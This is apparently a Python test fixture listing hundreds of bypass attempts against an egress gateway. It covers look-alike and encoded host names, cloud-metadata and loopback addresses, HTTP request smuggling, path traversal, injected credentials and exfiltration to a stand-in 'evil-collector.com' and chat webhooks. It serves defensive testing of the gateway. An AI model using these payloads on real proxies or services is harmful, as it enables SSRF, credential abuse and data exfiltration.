"""The attacks on the gateway's words: one entry a variant, by the catalogue's row. What each means is judged by the servers
behind (test_gateway.py): `refused` must not reach any of them, `cleaned` must arrive without what is listed.

{M} in a case stands for the variant's own mark, which is how it is found again in what a server heard; {TOKEN} for the
session's token. `off` is False where nobody but a proxy would take the variant for what it is, so that without the boundary
there is nothing for it to show.
"""
from dataclasses import dataclass, field

HOST, OTHER, EVIL = "api.example.com", "two.example.com", "evil-collector.com"
PLAIN = "plain.example.com"   # granted for http, port 80
WILD = "wild.example.com"     # *.wild.example.com is granted, two labels a session
# Names that resolve, to the attacker's server, and that nobody granted.
EVIL_NAMES = (EVIL, "evilapi.example.com", "api.example.com.evil-collector.com", "api.example.com.example.net", "wild.example.com",
              "a.b.wild.example.com", "xn--pi-ovb.example.com", "api-example.com", "example.com", "apiexample.com")


@dataclass
class Row:
    id: str
    what: str
    case: dict
    cleaned: tuple | None = None     # unset: refused
    answer: str = r"HTTP/1\.1 4\d\d"  # what the client is told; a connection that just ends is fine as well
    off: bool = True
    seen: tuple = field(default=())   # with `cleaned`: what has to be there


def request(path="/m/{M}", *lines, method="GET", host=HOST, version="HTTP/1.1", body=""):
    words = [f"{method} {path} {version}", *([f"Host: {host}"] if host is not None else []), *lines]
    return "\r\n".join(words) + "\r\n\r\n" + body


def tls(*send, to=HOST, sni=HOST, port=443, **more):
    return {"to": [to, port], "sni": sni, "send": list(send), **more}


def plain(*send, to=PLAIN, port=80, **more):
    return {"to": [to, port], "sni": None, "send": list(send), **more}


def connect(target, *send, sni, to=EVIL, host=None, **more):
    words = f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n"
    return {"to": [to, 443], "via": [words], "sni": sni, "send": list(send), **more}


def socks(name, *send, sni, port=443, to=EVIL, **more):
    return {"to": [to, port], "via": [["socks", name, port]], "sni": sni, "send": list(send), **more}


def rows():
    yield from names()
    yield from tls_rows()
    yield from http1()
    yield from paths()
    yield from credentials()
    yield from others()


def names():
    ordinary = request(host=EVIL)
    # N01, N02: canonicalised once, the same everywhere.
    dot, upper = HOST + ".", "ApI.eXaMpLe.CoM"
    for name, what in ((dot, "N01 a dot behind it"), (upper, "N02 mixed case")):
        row, _, word = what.partition(" ")
        clean = dict(cleaned=(name,), seen=(f"Host: {HOST}\r\n",), off=False)
        either = dict(answer=r"HTTP/1\.1 [24]\d\d|error: OSError proxy: HTTP/1.1 4|error: OSError socks|error: SSLError")
        yield Row(row, word + " in Host", tls(request(host=name)), **clean, **either)
        yield Row(row, word + " in SNI", tls(request(), sni=name), **clean, **either)
        yield Row(row, word + " in CONNECT", connect(name + ":443", request(), sni=HOST, to=HOST), **clean, **either)
        yield Row(row, word + " in CONNECT, SNI and Host", connect(name + ":443", request(host=name), sni=name, to=HOST), **clean, **either)
        yield Row(row, word + " by SOCKS", socks(name, request(), sni=HOST, to=HOST), **clean, **either)
        yield Row(row, word + " in a plain request", plain(request(host=name.replace("api", "plain").replace("ApI", "PlAiN"))),
                  cleaned=(name,), seen=(f"Host: {PLAIN}\r\n",), off=False, **either)
    proxy = r"error: OSError (proxy: HTTP/1\.1 4|socks|proxy: closed)|HTTP/1\.1 4"
    for row, name, what in (("N03", "evilapi.example.com", "a granted name as the end of another"),
                            ("N03", "apiexample.com", "without its dot"),
                            ("N04", "api.example.com.evil-collector.com", "a granted name as the beginning of another"),
                            ("N04", "api.example.com.example.net", "… of one that looks alike"),
                            ("N15", "wild.example.com", "the wildcard's own domain"),
                            ("N15", "a.b.wild.example.com", "two labels for one"),
                            ("N03", "example.com", "the parent of a granted name"),
                            ("N10", "xn--pi-ovb.example.com", "a look-alike in punycode")):
        yield Row(row, what + ", straight", tls(request(host=name), to=name, sni=name))
        yield Row(row, what + ", SNI of a granted one", tls(request(host=name), to=name, sni=HOST))
        yield Row(row, what + ", by CONNECT", connect(name + ":443", request(host=name), sni=name, to=name), answer=proxy)
        yield Row(row, what + ", by SOCKS", socks(name, request(host=name), sni=name, to=name), answer=proxy)
        yield Row(row, what + ", in the clear", plain(request(host=name), to=name))
    for row, target in (("N06", f"{EVIL}\0.{HOST}"), ("N06", f"{HOST}\0.{EVIL}"), ("N07", f"{EVIL}%00.{HOST}"),
                        ("N07", f"{EVIL}%2e{HOST}"), ("N07", f"%61pi.example.com"), ("N09", f"{HOST}@{EVIL}"),
                        ("N09", f"{HOST}:443@{EVIL}"), ("N09", f"{EVIL}#@{HOST}"), ("N09", f"{EVIL}\\@{HOST}"),
                        ("N09", f"{EVIL}/{HOST}"), ("N09", f"{EVIL}?{HOST}"), ("N09", f"{HOST} {EVIL}"),
                        ("N10", "\u0430pi.example.com".encode().decode("latin-1")),      # Cyrillic
                        ("N10", "api\u3002example\u3002com".encode().decode("latin-1")),  # ideographic full stops
                        ("N10", "\uff41pi.example.com".encode().decode("latin-1")),      # fullwidth
                        ("N10", "api.e\u00adxample.com".encode().decode("latin-1")),     # a soft hyphen
                        ("N10", "api.exam\u200dple.com".encode().decode("latin-1")),     # a zero-width joiner
                        ("N11", "2130706433"), ("N11", "0x7f000001"), ("N11", "0177.0.0.1"), ("N11", "127.1"), ("N11", "0"),
                        ("N11", "0x7f.1"), ("N11", "11.22.1"), ("N11", "127.0.0.1"), ("N11", "11.22.33.44"),
                        ("N12", "[::ffff:127.0.0.1]"), ("N12", "[::ffff:7f00:1]"), ("N12", "[::]"), ("N12", "[::1]"),
                        ("N12", "[64:ff9b::7f00:1]"), ("N12", "[2002:7f00:1::]"), ("N12", "[fe80::1%25eth0]"),
                        ("D02", "169.254.169.254"), ("D02", "100.100.100.200"), ("D02", "168.63.129.16"),
                        ("D02", "192.0.0.192"), ("D02", "[fd00:ec2::254]"), ("D02", "metadata.google.internal")):
        shown = ascii(target)
        bare = target.strip("[]")
        yield Row(row, f"CONNECT {shown}", connect(f"{target}:443", ordinary, sni=EVIL, host=f"{HOST}:443"), answer=proxy, off=False)
        yield Row(row, f"CONNECT and Host {shown}", connect(f"{target}:443", ordinary, sni=EVIL), answer=proxy, off=False)
        yield Row(row, f"SOCKS {shown}", socks(bare, ordinary, sni=EVIL), answer=proxy, off=False)
        yield Row(row, f"Host {shown}", tls(request(host=target)), off=False)
        yield Row(row, f"absolute form {shown}", tls(request(f"https://{target}/m/{{M}}")), off=False)
        yield Row(row, f"plain Host {shown}", plain(request(host=target)), off=False)
    # N17: what is granted for https is granted for nothing else.
    yield Row("N17", "in the clear, port 80", plain(request(host=HOST), to=HOST), off=False)
    yield Row("N17", "in the clear, port 443", plain(request(host=HOST), to=HOST, port=443), off=False)
    yield Row("N17", "TLS for what is granted in the clear", tls(request(host=PLAIN), to=PLAIN, sni=PLAIN), off=False)
    for scheme in ("http", "ftp", "gopher", "ws", "wss", "file", "urn", "data", "HTTPS+x"):
        yield Row("N17", f"{scheme}: in absolute form", tls(request(f"{scheme}://{HOST}/m/{{M}}")), off=False)
        yield Row("N17", f"{scheme}: asked of the proxy port", {"to": [HOST, 443], "via": [], "sni": None,
                  "send": [request(f"{scheme}://{HOST}/m/{{M}}")]}, off=False)


def tls_rows():
    proxy = r"error: (OSError proxy|SSL|Connection|OSError|EOF|ValueError)|HTTP/1\.1 4|end|silence"
    yield Row("T01", "CONNECT granted, SNI not", connect(f"{HOST}:443", request(host=EVIL), sni=EVIL, to=EVIL), answer=proxy)
    yield Row("T01", "CONNECT granted, SNI not, Host granted", connect(f"{HOST}:443", request(), sni=EVIL, to=EVIL), answer=proxy)
    yield Row("T01", "SOCKS granted, SNI not", socks(HOST, request(host=EVIL), sni=EVIL, to=EVIL), answer=proxy)
    yield Row("T01", "straight to a granted address, SNI not", tls(request(host=EVIL), to=HOST, sni=EVIL), answer=proxy, off=False)
    yield Row("T01", "no SNI at all, Host not granted", tls(request(host=EVIL), to=EVIL, sni=""), answer=proxy)
    yield Row("T02", "CONNECT and SNI granted, Host not", connect(f"{HOST}:443", request(host=EVIL), sni=HOST, to=EVIL), answer=proxy)
    yield Row("T02", "… in absolute form", connect(f"{HOST}:443", request(f"https://{EVIL}/m/{{M}}"), sni=HOST, to=EVIL), answer=proxy)
    yield Row("T02", "SNI granted, Host of another grant", tls(request(host=OTHER), to=HOST, sni=HOST), answer=proxy, off=False)
    for what, bytes_ in (("ssh", "SSH-2.0-OpenSSH_9.2\r\n{M}\r\n\r\n"), ("a mail", "EHLO {M}\r\n\r\n"), ("zeros", "\0" * 64 + "{M}\r\n\r\n"),
                         ("plain http", request(host=HOST)), ("a TLS alert", "\x15\x03\x01\x00\x02\x02\x28{M}\r\n\r\n"),
                         ("SSL 2", "\x80\x2e\x01\x00\x02{M}\r\n\r\n")):
        yield Row("T05", f"{what} behind CONNECT", connect(f"{HOST}:443", bytes_, sni=None, to=HOST), answer=proxy + "|^$", off=False)
        yield Row("T05", f"{what} behind SOCKS", socks(HOST, bytes_, sni=None, to=HOST), answer=proxy + "|^$", off=False)


def http1():
    h = lambda *lines, **k: request("/m/{M}", *lines, **k)
    post = lambda *lines, body="": request("/m/{M}", *lines, method="POST", body=body)
    for what, text in (("absolute form, another host", request(f"https://{EVIL}/m/{{M}}")),
                       ("Host is another", request(host=EVIL)),
                       ("absolute form granted, Host not", request(f"https://{HOST}/m/{{M}}", host=EVIL)),
                       ("the port differs", request(host=HOST + ":8443")),
                       ("userinfo in absolute form", request(f"https://{HOST}@{EVIL}/m/{{M}}"))):
        yield Row("H01", what, tls(text))
    for what, lines in (("two, the second evil", (f"Host: {HOST}", f"Host: {EVIL}")), ("two, the first evil", (f"Host: {EVIL}", f"Host: {HOST}")),
                        ("two alike", (f"Host: {HOST}", f"Host: {HOST}")), ("none", ()), ("empty", ("Host:",)),
                        ("userinfo", (f"Host: {HOST}@{EVIL}",)), ("a list", (f"Host: {HOST}, {EVIL}",)),
                        ("two words", (f"Host: {HOST} {EVIL}",)), ("in other case beside it", (f"Host: {HOST}", f"hOST: {EVIL}")),
                        ("one with a blank before the colon", (f"Host: {HOST}", f"Host : {EVIL}"))):
        yield Row("H02", what, tls(request("/m/{M}", *lines, host=None)))
    smuggled = "0\r\n\r\nGET /m/{M}-smuggled HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
    for what, lines in (("CL then TE", ("Content-Length: 4", "Transfer-Encoding: chunked")),
                        ("TE then CL", ("Transfer-Encoding: chunked", "Content-Length: 4")),
                        ("CL.TE with CL 0", ("Content-Length: 0", "Transfer-Encoding: chunked")),
                        ("TE in other letters", ("Content-Length: 4", "tRANSFER-eNCODING: Chunked"))):
        yield Row("H03", what, tls(post(*lines, body=smuggled)))
    for value in ("+5", "-1", "0x5", "", "18446744073709551621", "5, 5", "5,6", " 5 5", "05", "5.0", "5e0", "٥".encode().decode("latin-1"), "99999999999999999999999"):
        yield Row("H04", f"Content-Length: {ascii(value)}", tls(post(f"Content-Length: {value}", body="hello")))
    yield Row("H04", "twice, different", tls(post("Content-Length: 5", "Content-Length: 6", body="hello")))
    yield Row("H04", "twice, alike", tls(post("Content-Length: 5", "Content-Length: 5", body="hello")))
    for value in ("xchunked", "chunked, identity", "identity, chunked", '"chunked"', "chunked\x0b", "\x0bchunked", "chunked,", ",chunked", "gzip, chunked",
                  "chunked, chunked", "chunked;q=1", "identity", "", "chunKed\x00"):
        yield Row("H05", f"Transfer-Encoding: {ascii(value)}", tls(post(f"Transfer-Encoding: {value}", body="5\r\nhello\r\n0\r\n\r\n")))
    yield Row("H05", "twice", tls(post("Transfer-Encoding: chunked", "Transfer-Encoding: chunked", body="5\r\nhello\r\n0\r\n\r\n")))
    yield Row("H05", "in HTTP/1.0", tls(request("/m/{M}", "Transfer-Encoding: chunked", method="POST", version="HTTP/1.0", body="0\r\n\r\n")),
              answer=r"HTTP/1\.1 [45]")
    for size in ("0x5", "-5", "+5", "_5", " 5", "5 ", "00000000000000005", "g", "", "5;a=\nb", "5;a\rb", "5\t"):
        # What is before it may have gone up by then; what is behind it must not.
        yield Row("H07", f"chunk size {ascii(size)}",
                  tls(request("/m/head", "Transfer-Encoding: chunked", method="POST", body=f"1\r\nx\r\n{size}\r\n{{M}}\r\n0\r\n\r\n")), off=False,
                  answer=r"HTTP/1\.1 4|end|^$|silence|cut")
    for what, body in (("a bare LF behind the size", "5\n{M}\n0\n\n"), ("no CRLF behind the data", "1\r\nxX{M}\r\n0\r\n\r\n"),
                       ("a bare CR", "1\rx\r{M}\r\r"), ("a second request in the trailers", "0\r\nX: {M}\r\n\r\n")):
        yield Row("H07", what, tls(request("/m/head", "Transfer-Encoding: chunked", method="POST", body=body)), off=False,
                  answer=r"HTTP/1\.1 4|end|^$|silence|cut")
    for method in ("GET", "HEAD", "DELETE", "OPTIONS"):
        yield Row("H09", f"{method} with a body where none is granted", tls(request("/none/{M}", "Content-Length: 5", method=method, body="hello"), to=HOST))
        yield Row("H09", f"{method} with a chunked body where none is granted",
                  tls(request("/none/{M}", "Transfer-Encoding: chunked", method=method, body="5\r\nhello\r\n0\r\n\r\n")))
    yield Row("H09", "0.CL: a second request where the body should be",
              tls(request("/none/x", "Content-Length: 44", body="GET /m/{M} HTTP/1.1\r\nHost: evil-collector.com\r\n\r\n")))
    for what, lines in (("a folded header", ("X-One: a\r\n b",)), ("folded by a tab", ("X-One: a\r\n\tb",)),
                        ("a folded Host", (f"X: y\r\n Host: {EVIL}",))):
        yield Row("H10", what, tls(h(*lines)))
    yield Row("H10", "a blank before the first header", tls("GET /m/{M} HTTP/1.1\r\n Host: " + HOST + f"\r\nHost: {HOST}\r\n\r\n"))
    for name, byte in (("NUL", "\0"), ("VT", "\x0b"), ("FF", "\x0c"), ("DEL", "\x7f"), ("ESC", "\x1b"), ("bare CR", "\r")):
        yield Row("H11", f"{name} in a value", tls(h(f"Accept: a{byte}b")))
        yield Row("H11", f"{name} in a name", tls(h(f"Ac{byte}cept: a")))
        yield Row("H11", f"{name} in the target", tls(request(f"/m/{{M}}{byte}x")))
        yield Row("H11", f"{name} before the method", tls(byte + request()))
    yield Row("H11", "bare LF for line ends", tls(f"GET /m/{{M}} HTTP/1.1\nHost: {HOST}\n\n"), answer=r"HTTP/1\.1 4|end|silence|^$", off=False)
    yield Row("H11", "one bare LF", tls(f"GET /m/{{M}} HTTP/1.1\r\nAccept: a\nX-Api-Key: b\r\nHost: {HOST}\r\n\r\n"))
    for what, line in (("a blank before the colon", "Accept : a"), ("no name", ": a"), ("an 8-bit name", "Acc\xe9pt: a"), ("no colon", "Accept"),
                       ("a tab before the colon", "Accept\t: a"), ("a slash in the name", "Ac/cept: a"), ("a bracket in the name", "Accept[]: a")):
        yield Row("H12", what, tls(h(line)))
    for value in ("authorization", "close, authorization", "Authorization", "host", "x-api-key, keep-alive", "content-length", "transfer-encoding, close"):
        yield Row("H14", f"Connection: {value}", tls(h(f"Connection: {value}", "Authorization: Bearer {TOKEN}")),
                  cleaned=(f"onnection: {value}",), seen=("GET /m/",), off=False, answer=r"HTTP/1\.1 [24]")
    for target in (f"{EVIL}:443", "127.0.0.1:3128", f"{HOST}:443", "/m/{M}"):
        yield Row("H15", f"CONNECT {target} inside TLS", tls(request(target, "X-M: {M}", method="CONNECT"), request(host=EVIL)))
    for text, what in ((request(method="TRACE"), "TRACE"), (request(method="TRACK"), "TRACK"), (request("*", "X-M: {M}", method="OPTIONS"), "OPTIONS *"),
                       (request(method="PATCH"), "a method that is not granted"), (request(method="get"), "in lower case"), (request(method="GET\t"), "a tab behind it"),
                       (request(method="PRI", path="*", version="HTTP/2.0") + "SM\r\n\r\n{M}", "the preface of HTTP/2")):
        yield Row("H17", what, tls(text), answer=r"HTTP/1\.1 [45]|end|silence", off=what != "the preface of HTTP/2")
    yield Row("H17", "Max-Forwards", tls(h("Max-Forwards: 0")), cleaned=("Max-Forwards",), seen=("GET /m/",), off=False, answer=r"HTTP/1\.1 [24]")
    first = request("/m/first", "Authorization: Bearer {TOKEN}")
    yield Row("H18", "a pipelined request for another path", tls(first + request("/elsewhere/{M}"), answers=2), answer=r"HTTP/1\.1 200.*HTTP/1\.1 4", off=False)
    yield Row("H18", "a pipelined request with a foreign key", tls(first + request("/m/{M}", "Authorization: Bearer sk-attacker"), answers=2),
              answer=r"HTTP/1\.1 200.*HTTP/1\.1 4", off=False)
    yield Row("H18", "a pipelined request for another host", tls(first + request("/m/{M}", host=EVIL), answers=2), answer=r"HTTP/1\.1 200.*HTTP/1\.1 4", off=False)
    for what, text in (("100 KB in one header", h("X: " + "a" * 100_000)), ("2000 headers", h(*[f"Accept-{i}: a" for i in range(2000)])),
                       ("a target of 64 KB", request("/m/{M}" + "a" * 65536)), ("a long name", h("X" * 70_000 + ": a"))):
        yield Row("H21", what, tls(text), answer=r"HTTP/1\.1 4|end|^$|cut")
    for name in ("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE", "X-Original-URL: /admin", "X-Rewrite-URL: /admin",
                 f"X-Forwarded-Host: {EVIL}", f"Forwarded: host={EVIL}", f"X-Host: {EVIL}", "X-Forwarded-For: 127.0.0.1", "X-Original-Host: " + EVIL,
                 "X-Forwarded-Proto: http", "Via: 1.1 me"):
        word = name.split(":")[0]
        yield Row("H23", word, tls(h(name)), cleaned=(word, word.lower()), seen=("GET /m/",), off=False, answer=r"HTTP/1\.1 [24]")


def paths():
    for path in ("/m/../secret/{M}", "/m/%2e%2e/secret/{M}", "/m/%2E%2E/secret/{M}", "/m/..;/secret/{M}", "/m//secret/{M}", "/m/\\..\\secret/{M}",
                 "/m/%5c..%5csecret/{M}", "/m/..%2fsecret%2f{M}", "/m/%252e%252e/secret/{M}", "/m;x=/secret/{M}", "/m/{M}%00.txt", "/m/./{M}", "/m/{M}/.",
                 "/m/{M}/..", "//m/{M}", "/m/%c0%ae%c0%ae/{M}", "/m/%u002e/{M}", "/m/{M}%", "/m/{M}%2", "/m/{M}%zz", "/M/{M}", "m/{M}", "/m/{M}#x",
                 "/m/.%2e/{M}", "/m/%2e./{M}", "/%6d/{M}%2f..%2f..", "/m/{M}%0d%0aX:%20y", "/m/\xff{M}", "/m/%ff{M}/..%2f"):
        yield Row("P01", ascii(path), tls(request(path)))
    for path in ("/one/x/{M}", "/one/x%2f{M}", "/one//{M}", "/one/", "/one/{M}/", "/two/a/b/{M}", "/two/{M}/edit/more", "/one/*/{M}", "/one/%2e/{M}"):
        yield Row("P03", f"{path} where /one/* and /two/{{id}}/edit are granted", tls(request(path, "X-M: {M}")))


def credentials():
    h = lambda *lines, **k: request("/m/{M}", *lines, **k)
    own = "Authorization: Bearer {TOKEN}"
    for what, lines in (("a second Authorization", (own, "Authorization: Bearer sk-attacker")), ("… before it", ("Authorization: Bearer sk-attacker", own)),
                        ("joined by a comma", (own + ", Bearer sk-attacker",)), ("alone", ("Authorization: Bearer sk-attacker",)),
                        ("another scheme", ("Authorization: Basic c2s6YXR0YWNrZXI=",)), ("Token", ("Authorization: Token sk-attacker",)),
                        ("the token and more", (own + "x",)), ("the token and a blank, and more", (own + " sk-attacker",)), ("empty", ("Authorization:",)),
                        ("the scheme alone", ("Authorization: Bearer",)), ("AWS4", ("Authorization: AWS4-HMAC-SHA256 Credential=AKIAATTACKER/x",)),
                        ("in other letters beside it", (own, "aUTHORIZATION: bearer sk-attacker"))):
        yield Row("C01", what, tls(h(*lines)))
    for name in ("X-Api-Key", "Api-Key", "X-Goog-Api-Key", "Private-Token", "X-Auth-Token", "Proxy-Authorization", "X-Amz-Security-Token", "X-Vault-Token",
                 "Circle-Token", "X-Access-Token", "Anthropic-Api-Key", "Ocp-Apim-Subscription-Key", "X-Functions-Key", "Dd-Api-Key", "X-Shopify-Access-Token",
                 "X-Secret", "X-Session-Token", "Apikey", "X-Figma-Token", "X-Goog-Iam-Authorization-Token", "X-Ms-Token-Aad-Access-Token"):
        yield Row("C02", name, tls(h(f"{name}: sk-attacker")))
        yield Row("C02", name + " beside the token", tls(h(own, f"{name}: sk-attacker")))
    for query in ("key=x", "api_key=x", "access_token=x", "token=x", "sig=x", "X-Amz-Signature=x", "X-Amz-Credential=x", "sv=1&sig=x", "se=1", "sp=r", "apikey=x",
                  "KEY=x", "api%5Fkey=x", "%6Bey=x", "auth=x", "client_secret=x", "password=x", "a=1&key=x", "a=1;key=x", "key%00=x", "key[]=x", "code=x&client_secret=y",
                  "X-Goog-Signature=x", "X-Goog-Credential=x", "jwt=x", "private_token=x", "oauth_token=x", "GoogleAccessId=x&Signature=y", "AWSAccessKeyId=x"):
        yield Row("C03", f"?{query}", tls(request("/m/{M}?" + query)))
    for line in ("Cookie: session=attacker", "Cookie2: a=b", "cookie: a", "Cookie: a=b\r\nCookie: c=d"):
        yield Row("C04", line.replace("\r\n", " "), tls(h(line)))
    for what, text in (("in another host's slot", request("/m/{M}", own, host=OTHER)), ("in the path", request("/m/{M}/{TOKEN}", host=OTHER)),
                       ("in the query", request("/m/{M}?q={TOKEN}", host=OTHER)), ("as Referer", request("/m/{M}", "Referer: https://api.example.com/{TOKEN}", host=OTHER)),
                       ("in an allowed header", request("/m/{M}", "User-Agent: {TOKEN}", host=OTHER)),
                       ("in Accept-Language", request("/m/{M}", "Accept-Language: {TOKEN}", host=OTHER))):
        yield Row("C07", "the session's token for another host: " + what, tls(text, to=OTHER, sni=OTHER), cleaned=("bh-",), answer=r"HTTP/1\.1 [24]", off=False)


def others():
    # A11, A12, A14 belong to presets (tests/presets); these are what no preset opens.
    for name in ("hooks.slack.com", "discord.com", "api.telegram.org", "api-example-com.translate.goog", "web.archive.org"):
        yield Row("A11", name, tls(request("/m/{M}", host=name, method="POST"), to=name, sni=name), off=False)
